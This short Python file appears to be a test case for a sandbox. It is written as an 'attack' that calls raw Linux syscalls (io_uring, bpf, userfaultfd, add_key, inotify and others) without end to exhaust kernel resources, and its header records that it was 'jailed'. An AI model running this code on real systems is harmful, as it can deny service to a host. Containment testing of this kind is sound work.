# /// attack
# title = "Makes timers, keys, queues, inotify and io_uring without end"
# stopped_at = "jailed"
# ///
import ctypes

from loot import tried

LIBC = ctypes.CDLL(None, use_errno=True)


def call(number, *arguments):
    def action():
        if LIBC.syscall(number, *arguments) < 0:
            raise OSError

    action.__name__ = f"call{number}"
    return action


def attack(*arguments, **keywords):
    return tried(
        call(253), call(290, 0, 0), call(425, 8, ctypes.create_string_buffer(120)), call(323, 1), call(300, 0, 0),
        call(248, b"user", b"hostile", b"x", 1, -2), call(321, 5, 0, 0), call(298, 0, 0, -1, -1, 0), call(283, 1, 0),
    )
